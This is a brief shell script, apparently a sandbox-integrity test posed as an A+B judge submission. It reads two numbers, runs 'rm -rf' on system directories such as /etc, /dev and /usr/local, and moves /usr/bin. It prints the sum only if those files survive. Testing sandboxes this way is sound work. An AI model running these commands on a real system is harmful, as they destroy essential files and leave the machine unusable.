read a b
rm -rf /usr/bin/env /usr/local /box /cache /etc /dev /run /hidden >/dev/null 2>&1
mv /usr/bin /tmp 2>/dev/null
[ -x /usr/bin/env ] && [ -e /box/main.sh ] && [ -e /etc/passwd ] && [ -e /dev/null ] && echo $((a + b))
